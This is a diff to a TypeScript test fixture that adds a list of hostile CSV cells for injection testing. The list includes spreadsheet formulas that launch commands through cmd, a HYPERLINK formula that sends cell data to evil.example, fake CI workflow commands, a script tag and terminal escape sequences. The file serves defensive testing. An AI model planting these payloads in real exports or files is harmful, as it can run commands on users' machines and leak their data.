@@ -30,6 +30,27 @@ export const HOSTILE_STRINGS = [
   "a".repeat(2000),
 ] as const;
 
+/** CSV cells that a spreadsheet would run as a formula (CSV injection), or that mean something to
+ * a terminal, a CI log, HTML, Markdown or YAML when a report or a page shows them. */
+export const HOSTILE_CELLS = [
+  "=cmd|' /C calc'!A0",
+  "+SUM(A1:A9)+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+  "\t=1+1",
+  "::error file=map.journey.yaml,line=1::fake finding",
+  "##[warning]legacy command",
+  "<script>alert(1)</script>",
+  "| a | b |",
+  "`code` ``` | `x` |",
+  "\u202eevil\u202c \u2066x\u2069",
+  "\u001b[2J\u001b]0;pwned\u0007",
+  "\u0085\u009b31m\u007f",
+  'line\nbreak, comma; semicolon "quote"',
+  "- [ ] task\n# heading",
+] as const;
+
 /** Text made of hostile pieces, arbitrary Unicode and plain words. Never empty. */
 export const hostileText: fc.Arbitrary<string> = fc
   .array(
